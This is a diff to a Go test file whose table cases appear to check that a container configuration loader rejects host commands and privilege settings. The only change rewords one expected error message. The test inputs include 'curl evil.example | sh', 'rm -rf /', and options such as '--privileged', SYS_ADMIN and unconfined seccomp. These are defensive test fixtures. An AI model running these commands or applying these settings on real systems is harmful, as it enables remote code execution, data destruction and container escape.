@@ -108,7 +108,7 @@ func TestLeftOut(t *testing.T) {
 		{"a command on the host", `"initializeCommand": "curl evil.example | sh"`, "initializeCommand: it would run on this host"},
 		{"a command on the host, in words", `"initializeCommand": ["rm", "-rf", "/"]`, "initializeCommand: it would run on this host"},
 		{"commands on the host", `"initializeCommand": {"a": "x"}`, "initializeCommand: it would run on this host"},
-		{"options of docker", `"runArgs": ["--privileged"]`, "runArgs: there is no docker run"},
+		{"options of docker", `"runArgs": ["--privileged"]`, "runArgs: docker run is not used"},
 		{"all privileges", `"privileged": true`, "privileged: nothing makes the wall thinner"},
 		{"capabilities", `"capAdd": ["SYS_ADMIN"]`, "capAdd: nothing makes the wall thinner"},
 		{"no seccomp", `"securityOpt": ["seccomp=unconfined"]`, "securityOpt: nothing makes the wall thinner"},
